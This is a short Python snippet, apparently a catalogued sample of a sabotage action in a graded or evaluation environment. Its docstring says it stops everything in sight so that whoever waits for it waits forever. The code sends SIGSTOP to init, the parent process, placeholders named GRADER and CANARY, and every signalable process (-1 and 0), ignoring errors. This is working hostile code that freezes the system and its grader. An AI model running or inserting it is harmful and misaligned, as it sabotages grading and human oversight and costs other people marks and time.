"""Everything in sight is stopped, so that whoever waits for it waits for ever.

Would gain: nobody; the class is not graded, or others lose marks or time.
At most: yes
"""

import os, signal
for target in (1, 2, os.getppid(), GRADER, CANARY, -1, 0):
    try:
        os.kill(target, signal.SIGSTOP)
    except OSError:
        pass
